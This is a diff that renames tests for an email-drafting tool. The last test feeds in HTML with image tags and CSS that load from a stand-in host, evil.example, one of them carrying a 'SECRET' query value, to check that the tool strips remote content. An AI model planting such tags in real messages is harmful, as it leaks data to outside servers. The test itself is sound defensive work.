@@ -11,7 +11,7 @@ use crate::common::messages::person;
 use mira::{Mira, jonas};
 
 #[tokio::test]
-async fn a_new_message() {
+async fn new_message_becomes_a_draft() {
     let mira = Mira::new(&[]).await;
     let blocks = mira
         .ok(json!({"to": "Jonas Berg <jonas@example.com>, priya@example.com", "bcc": ["yusuf@lindqvist-lamps.example"],
@@ -44,7 +44,7 @@ async fn a_new_message() {
 }
 
 #[tokio::test]
-async fn a_simple_answer_is_short_to_tell() {
+async fn simple_reply_gives_a_short_answer() {
     let mira = Mira::new(&[]).await;
     mira.put(jonas());
     let handle = mira.message("m1").await;
@@ -86,7 +86,7 @@ async fn a_simple_answer_is_short_to_tell() {
 }
 
 #[tokio::test]
-async fn everybody_is_answered_but_oneself() {
+async fn reply_all_leaves_out_the_user() {
     let mira = Mira::new(&[]).await;
     mira.put(jonas());
     let handle = mira.message("m1").await;
@@ -104,7 +104,7 @@ async fn everybody_is_answered_but_oneself() {
 }
 
 #[tokio::test]
-async fn what_is_sent_on_takes_its_files_along() {
+async fn forward_keeps_its_attachments() {
     let mira = Mira::new(&[]).await;
     mira.put(jonas());
     let handle = mira.message("m1").await;
@@ -138,7 +138,7 @@ async fn what_is_sent_on_takes_its_files_along() {
 }
 
 #[tokio::test]
-async fn only_what_is_given_changes() {
+async fn only_given_arguments_change_a_draft() {
     let mira = Mira::new(&[]).await;
     mira.put(jonas());
     let handle = mira.message("m1").await;
@@ -180,7 +180,7 @@ async fn only_what_is_given_changes() {
 /// The signature of a draft stays when its text is replaced, whoever wrote it, and a
 /// stranger's in what is quoted is nobody's.
 #[tokio::test]
-async fn a_signature_stays() {
+async fn signature_stays_when_the_text_changes() {
     const LAMPS: &str = "mira@lindqvist-lamps.example";
     const OWN: &str = "-- \nMira\nLindqvist Lamps";
     const REPLACED: &str = "all text above the quote was replaced, including any signature: write \
@@ -257,7 +257,7 @@ async fn a_signature_stays() {
 }
 
 #[tokio::test]
-async fn a_draft_is_discarded() {
+async fn draft_can_be_discarded() {
     let mira = Mira::new(&[]).await;
     mira.ok(json!({"subject": "Lamps"})).await;
     let blocks = mira.ok(json!({"mode": "discard", "id": "d1"})).await;
@@ -280,7 +280,7 @@ async fn a_draft_is_discarded() {
 }
 
 #[tokio::test]
-async fn what_the_service_holds_is_reported() {
+async fn draft_stored_differently_is_reported() {
     let mira = Mira::new(&[]).await;
     *mira.ana().bends.lock().unwrap() = true;
     let blocks = mira.ok(json!({"to": "priya@example.com", "subject": "x"})).await;
@@ -295,7 +295,7 @@ async fn what_the_service_holds_is_reported() {
 }
 
 #[tokio::test]
-async fn a_line_that_breaks_leaves_it_open() {
+async fn broken_connection_is_reported_as_unknown() {
     use daysheet::error::{Error, Kind};
     let mira = Mira::new(&[]).await;
     *mira.ana().fails.lock().unwrap() = Some(Error::new(Kind::Network, "the line broke"));
@@ -313,7 +313,7 @@ async fn a_line_that_breaks_leaves_it_open() {
 
 /// What was done is told when the log cannot have its second line.
 #[tokio::test]
-async fn a_log_that_breaks_meanwhile_is_a_note() {
+async fn failing_audit_log_afterwards_is_a_note() {
     let mira = Mira::new(&[]).await;
     let log = mira.home.path().join("audit.jsonl");
     *mira.ana().meanwhile.lock().unwrap() = Some(Box::new(move || {
@@ -339,7 +339,7 @@ async fn every_address_is_in_the_preview() {
 }
 
 #[tokio::test]
-async fn the_address_that_was_written_to_answers() {
+async fn reply_comes_from_the_address_written_to() {
     let mira = Mira::new(&[]).await;
     let mut message = jonas();
     message.to = vec![person("", "Mira@lindqvist-lamps.example")];
@@ -360,7 +360,7 @@ async fn the_address_that_was_written_to_answers() {
 }
 
 #[tokio::test]
-async fn files_of_every_kind_go_along() {
+async fn attachments_of_every_kind_are_added() {
     let mira = Mira::new(&[]).await;
     mira.put(jonas());
     let message = mira.message("m1").await;
@@ -395,7 +395,7 @@ async fn files_of_every_kind_go_along() {
 }
 
 #[tokio::test]
-async fn what_is_written_loads_nothing_from_elsewhere() {
+async fn written_html_loads_no_remote_content() {
     let html = "<p>a<img src='https://evil.example/?q=SECRET' alt='Logo &lt;b&gt;'>b\
                 <IMG alt=x SRC=\" HTTP://evil.example/\"><img src=//evil.example/y>\
                 <span style=\"background:image-set('https://evil.example/z' 1x)\">c</span>\
